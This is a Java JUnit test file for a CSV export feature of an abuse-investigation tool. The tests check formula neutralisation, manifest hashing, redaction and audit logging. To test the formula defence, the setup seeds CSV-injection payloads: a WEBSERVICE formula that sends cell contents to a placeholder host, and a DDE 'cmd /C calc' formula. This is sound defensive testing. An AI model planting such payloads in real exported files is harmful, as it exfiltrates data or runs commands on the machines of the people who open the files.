package dev.quarry.export;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.quarry.analysis.RunStore;
import dev.quarry.analysis.StoredRun;
import dev.quarry.fixtures.SmallCase;
import dev.quarry.model.ProgressListener;
import dev.quarry.store.CaseFile;
import dev.quarry.store.CaseWork;
import dev.quarry.store.Sha256;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.stream.Collectors;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

class CsvPacketTest {

    @TempDir
    Path dir;

    private Path source;

    private ExportReport export(Integer campaign) throws Exception {
        return export(campaign, Redaction.NONE);
    }

    /** The small case, with hostile text in a prompt, a note, a tag and a verdict comment, exported. */
    private ExportReport export(Integer campaign, Redaction redaction) throws Exception {
        try (CaseFile caseFile = CaseFile.open(dir.resolve("case.quarry"))) {
            source = SmallCase.populate(caseFile, dir);
            try (var statement = caseFile.connection().createStatement()) {
                statement.executeUpdate("UPDATE events SET prompt_text = '=WEBSERVICE(\"http://x.example/\"&A1); write to "
                        + "ops@example.com' WHERE request_id = 'r1'");
                statement.executeUpdate("UPDATE events SET prompt_text = ' -1; drop' WHERE request_id = 'r4'");
            }
            RunStore runs = new RunStore(caseFile);
            long runId = runs.save(SmallCase.result(42, 0.0), Instant.parse("2026-03-01T10:00:00Z"),
                    Instant.parse("2026-03-01T10:01:00Z"), ProgressListener.NONE);
            CaseWork work = new CaseWork(caseFile, "@examiner");
            work.addNote(CaseWork.Subject.campaign(runId, 1), "+1 seen from 10.0.0.1; contact ops@example.com");
            work.addNote(CaseWork.Subject.wholeCase(), "\t=cmd|' /C calc'!A0");
            work.tagAccounts(List.of(SmallCase.PLUS_ACCOUNT), "-suspect");
            work.recordVerdict(CaseWork.Subject.campaign(runId, 1), CaseWork.Decision.ABUSIVE, "=1+1 confirmed");
            StoredRun run = runs.load(runId);
            return new CsvPacket(caseFile, redaction).write(run, dir.resolve("packet"),
                    campaign == null ? List.of() : List.of(campaign), ProgressListener.NONE);
        }
    }

    private static List<CSVRecord> records(Path file) throws Exception {
        try (Reader reader = Files.newBufferedReader(file, StandardCharsets.UTF_8);
             CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(reader)) {
            return parser.getRecords();
        }
    }

    private static List<CSVRecord> read(Path file) throws Exception {
        try (Reader reader = Files.newBufferedReader(file, StandardCharsets.UTF_8);
             CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(reader)) {
            assertEquals(file.getFileName().toString().equals(CsvPacket.ACCOUNTS) ? CsvPacket.ACCOUNT_COLUMNS
                    : CsvPacket.CAMPAIGN_COLUMNS, parser.getHeaderNames());
            return parser.getRecords();
        }
    }

    private static Map<String, CSVRecord> byAccount(List<CSVRecord> rows) {
        return rows.stream().collect(Collectors.toMap(r -> r.get("account_id"), Function.identity()));
    }

    @Test
    void accountsFileStartsWithTheContractColumns() {
        assertEquals(List.of("account_id", "risk_score", "flagged", "campaign_id", "reasons"),
                CsvPacket.ACCOUNT_COLUMNS.subList(0, 5));
    }

    @Test
    void writesOneRowPerAccountInTheCaseIncludingUnscoredOnes() throws Exception {
        export(null);
        List<CSVRecord> rows = read(dir.resolve("packet").resolve(CsvPacket.ACCOUNTS));
        assertEquals(4, rows.size());
        Map<String, CSVRecord> accounts = byAccount(rows);

        CSVRecord quiet = accounts.get(SmallCase.QUIET_ACCOUNT);
        assertEquals("0.030000", quiet.get("risk_score"));
        assertEquals("false", quiet.get("flagged"));
        assertEquals("", quiet.get("campaign_id"));
        assertEquals("2", quiet.get("events"));
        assertEquals("2026-01-01T00:00:05Z", quiet.get("first_activity"));

        CSVRecord unscored = accounts.get(SmallCase.NO_EVENTS_ACCOUNT);
        assertEquals("0.000000", unscored.get("risk_score"));
        assertEquals("false", unscored.get("flagged"));
        assertEquals("false", unscored.get("scored"));
        assertEquals("0", unscored.get("events"));
        assertEquals("not scored by run 1: no events in the case", unscored.get("reasons"));

        CSVRecord member = accounts.get("'" + SmallCase.PLUS_ACCOUNT);
        assertEquals("0.910000", member.get("risk_score"));
        assertEquals("true", member.get("flagged"));
        assertEquals("1", member.get("campaign_id"));
        assertEquals("shares IP 10.0.0.1 with 1 account of campaign 1", member.get("reasons"));
    }

    @Test
    void neutralizesFormulasFromUntrustedTextButKeepsNegativeNumbers() throws Exception {
        export(null);
        Map<String, CSVRecord> accounts = byAccount(read(dir.resolve("packet").resolve(CsvPacket.ACCOUNTS)));
        assertTrue(accounts.containsKey("'" + SmallCase.FORMULA_ACCOUNT));
        assertTrue(accounts.containsKey("'" + SmallCase.PLUS_ACCOUNT));
        CSVRecord formula = accounts.get("'" + SmallCase.FORMULA_ACCOUNT);
        assertEquals("'-2+3 shares card fingerprint card-shared with 1 account of campaign 1 | "
                + "@SUM(A1:A9) starts work within 3 minutes of 1 campaign member on 1 of 1 days", formula.get("reasons"));
        assertEquals("-0.420000", formula.get("anomaly_score"));
        assertEquals("-2.250000", formula.get("map_y"));

        CSVRecord campaign = read(dir.resolve("packet").resolve(CsvPacket.CAMPAIGNS)).get(0);
        assertEquals("'=shared cards, synchronized start", campaign.get("label"));
    }

    @Test
    void campaignsFileSummarizesEachCampaignWithItsActivity() throws Exception {
        export(null);
        List<CSVRecord> campaigns = read(dir.resolve("packet").resolve(CsvPacket.CAMPAIGNS));
        assertEquals(1, campaigns.size());
        CSVRecord campaign = campaigns.get(0);
        assertEquals("1", campaign.get("campaign_id"));
        assertEquals("0.930000", campaign.get("score"));
        assertEquals("2", campaign.get("size"));
        assertEquals("shared_billing | synchronized", campaign.get("signals"));
        assertEquals("2 accounts share card fingerprint card-shared | start within 3 minutes of each other",
                campaign.get("reasons"));
        assertEquals("2026-01-01T00:00:00Z", campaign.get("first_activity"));
        assertEquals("2026-01-02T00:00:00Z", campaign.get("last_activity"));
        assertEquals("5", campaign.get("events"));
        assertEquals("2", campaign.get("flagged_members"));
    }

    @Test
    void manifestHashesEverySourceAndExportedFile() throws Exception {
        ExportReport report = export(null);
        Path packet = dir.resolve("packet");
        JsonNode manifest = new ObjectMapper().readTree(packet.resolve(CsvPacket.MANIFEST).toFile());
        assertEquals(Sha256.of(source), manifest.path("sources").get(0).path("sha256").asText());
        assertEquals(1, manifest.path("run").path("run_id").asLong());
        assertEquals(42, manifest.path("run").path("seed").asLong());
        assertEquals(42, manifest.path("run").path("options").path("seed").asLong());
        assertEquals(5.0, manifest.path("run").path("detection_rules").path("synchrony").path("minZ").asDouble(),
                "the rules the run judged by");
        assertEquals("0.1.0", manifest.path("quarry_version").asText());
        assertFalse(manifest.path("exported_at").asText().isEmpty());
        assertEquals(64, manifest.path("audit_head").path("hash").asText().length());
        assertEquals(5, manifest.path("audit_head").path("seq").asLong(), "analyze, 2 notes, tag, verdict");
        assertEquals(SpreadsheetSafe.RULE, manifest.path("formula_neutralisation").asText());
        assertEquals(Manifest.digest(manifest), manifest.path("manifest_digest").path("sha256").asText());
        assertEquals(Manifest.digest(manifest), report.manifestDigest());
        JsonNode files = manifest.path("files");
        assertEquals(16, files.size());
        for (JsonNode file : files) {
            Path exported = packet.resolve(file.path("name").asText());
            assertEquals(Sha256.of(exported), file.path("sha256").asText());
            assertEquals(Files.size(exported), file.path("bytes").asLong());
        }
        assertEquals(4, report.files().stream().filter(f -> f.name().equals(CsvPacket.ACCOUNTS)).findFirst()
                .orElseThrow().rows());
        try (var listing = Files.list(packet)) {
            assertEquals(List.of("accounts.csv", "accounts.jsonl", "campaigns.csv", "campaigns.jsonl", "events.csv",
                            "events.jsonl", "links.csv", "links.jsonl", "manifest.json", "notes.csv", "notes.jsonl",
                            "reasons.csv", "reasons.jsonl", "tags.csv", "tags.jsonl", "verdicts.csv", "verdicts.jsonl"),
                    listing.map(p -> p.getFileName().toString()).sorted().toList());
        }
    }

    @Test
    void campaignOptionLimitsThePacketToThatCampaign() throws Exception {
        export(1);
        List<CSVRecord> accounts = read(dir.resolve("packet").resolve(CsvPacket.ACCOUNTS));
        assertEquals(2, accounts.size());
        assertTrue(accounts.stream().allMatch(r -> r.get("campaign_id").equals("1")));
        JsonNode manifest = new ObjectMapper().readTree(dir.resolve("packet").resolve(CsvPacket.MANIFEST).toFile());
        assertEquals(1, manifest.path("campaigns").get(0).asInt());
        assertEquals(5, records(dir.resolve("packet").resolve("events.csv")).size(), "only the members' events");
    }

    @Test
    void refusesACampaignTheRunDoesNotHave() {
        Exception e = assertThrows(IllegalArgumentException.class, () -> export(7));
        assertEquals("run 1 has no campaign 7 (it has [1]); `quarry runs CASE` lists the runs", e.getMessage());
        assertFalse(Files.exists(dir.resolve("packet").resolve(CsvPacket.MANIFEST)));
    }

    @Test
    void exportIsRecordedInTheAuditLog() throws Exception {
        export(null);
        try (CaseFile caseFile = CaseFile.open(dir.resolve("case.quarry"));
             var statement = caseFile.connection().createStatement();
             var rs = statement.executeQuery("SELECT action FROM audit_log ORDER BY audit_id")) {
            rs.next();
            assertEquals("analyze", rs.getString(1));
            for (int i = 0; i < 3; i++) {
                rs.next();
            }
            rs.next();
            assertEquals("verdict", rs.getString(1));
            rs.next();
            assertEquals("export", rs.getString(1));
        }
    }

    @Test
    void everyTextCellOfEveryCsvFileIsQuotedAndNoneStartsAFormula() throws Exception {
        export(null);
        Path packet = dir.resolve("packet");
        int files = 0;
        try (var listing = Files.list(packet)) {
            for (Path file : listing.filter(p -> p.toString().endsWith(".csv")).sorted().toList()) {
                files++;
                String header = Files.readAllLines(file, StandardCharsets.UTF_8).get(0);
                assertTrue(header.startsWith("\"") && header.endsWith("\""), file + ": header not quoted: " + header);
                for (CSVRecord row : records(file)) {
                    for (String cell : row) {
                        // numbers are written by Quarry, unquoted, and stay numbers (a negative score is not a formula)
                        assertFalse(SpreadsheetSafe.startsFormula(cell) && !cell.matches("-?\\d+(\\.\\d+)?"),
                                file.getFileName() + ": " + cell);
                    }
                }
            }
        }
        assertEquals(8, files);
        String events = Files.readString(packet.resolve("events.csv"));
        assertTrue(events.contains("\"'=WEBSERVICE(\"\"http://x.example/\"\"&A1); write to ops@example.com\""), events);
        assertTrue(events.contains("\"' -1; drop\""), "a cell holding ; is quoted: " + events);
        String notes = Files.readString(packet.resolve("notes.csv"));
        assertTrue(notes.contains("\"'=cmd|' /C calc'!A0\"") || notes.contains("\"'\t=cmd|' /C calc'!A0\""), notes);
        assertTrue(Files.readString(packet.resolve("tags.csv")).contains("\"'-suspect\""));
        assertTrue(Files.readString(packet.resolve("verdicts.csv")).contains("\"'=1+1 confirmed\""));
    }

    @Test
    void jsonLinesCopyHoldsTheSameRowsUnmodified() throws Exception {
        export(null);
        Path packet = dir.resolve("packet");
        List<JsonNode> events = new ArrayList<>();
        for (String line : Files.readAllLines(packet.resolve("events.jsonl"))) {
            events.add(new ObjectMapper().readTree(line));
        }
        assertEquals(records(packet.resolve("events.csv")).size(), events.size());
        assertEquals(5, events.size());
        JsonNode first = events.stream().filter(e -> e.path("request_id").asText().equals("r1")).findFirst().orElseThrow();
        assertEquals(SmallCase.FORMULA_ACCOUNT, first.path("account_id").asText());
        assertEquals("=WEBSERVICE(\"http://x.example/\"&A1); write to ops@example.com", first.path("prompt_text").asText());
        assertEquals("2026-01-01T00:00:00Z", first.path("ts").asText());
        assertTrue(first.path("campaign_id").isNumber());
        JsonNode account = new ObjectMapper().readTree(Files.readAllLines(packet.resolve("accounts.jsonl")).get(0));
        assertTrue(account.path("risk_score").isNumber());
    }

    @Test
    void linksNameTheValuesMembersShare() throws Exception {
        export(null);
        List<CSVRecord> links = records(dir.resolve("packet").resolve("links.csv"));
        assertEquals(List.of("ip 10.0.0.1 '" + SmallCase.FORMULA_ACCOUNT, "ip 10.0.0.1 '" + SmallCase.PLUS_ACCOUNT,
                        "payment_fingerprint card-shared '" + SmallCase.FORMULA_ACCOUNT,
                        "payment_fingerprint card-shared '" + SmallCase.PLUS_ACCOUNT).stream().sorted().toList(),
                links.stream().map(r -> r.get("attribute") + " " + r.get("value") + " " + r.get("account_id")).sorted().toList());
        assertTrue(links.stream().allMatch(r -> r.get("members_sharing").equals("2")));
    }

    @Test
    void redactionMasksPromptsEmailsAndIpsTheSameWayEverywhere() throws Exception {
        export(null, Redaction.masking());
        Path packet = dir.resolve("packet");
        try (var listing = Files.list(packet)) {
            for (Path file : listing.toList()) {
                String text = Files.readString(file);
                for (String original : List.of("10.0.0.1", "192.0.2.7", "ops@example.com", "WEBSERVICE", " -1; drop")) {
                    assertFalse(text.contains(original), file.getFileName() + " still shows " + original);
                }
            }
        }
        String links = Files.readString(packet.resolve("links.csv"));
        String notes = Files.readString(packet.resolve("notes.csv"));
        assertTrue(links.contains("\"[ip 1]\""), links);
        assertTrue(notes.contains("seen from [ip 1]; contact [email 1]"), notes);
        JsonNode manifest = new ObjectMapper().readTree(packet.resolve(CsvPacket.MANIFEST).toFile());
        assertTrue(manifest.path("redacted").asBoolean());
    }

    @Test
    void refusesToWriteIntoAFileOrADirectoryOfOtherFilesAndSaysWhatToDo() throws Exception {
        Path file = dir.resolve("packet");
        Files.writeString(file, "mine");
        IOException onFile = assertThrows(IOException.class, () -> export(null));
        Files.delete(dir.resolve("case.quarry"));
        assertTrue(onFile.getMessage().contains("it is a file, and a CSV packet is a directory of files; give a directory"),
                onFile.getMessage());
        Files.delete(file);
        Files.createDirectories(file);
        Files.writeString(file.resolve("thesis.docx"), "mine");
        IOException onOthers = assertThrows(IOException.class, () -> export(null));
        assertTrue(onOthers.getMessage().contains("already holds 1 file(s) that are not a Quarry packet (thesis.docx); "
                + "give a new or empty directory"), onOthers.getMessage());
        assertEquals("mine", Files.readString(file.resolve("thesis.docx")));
    }
}
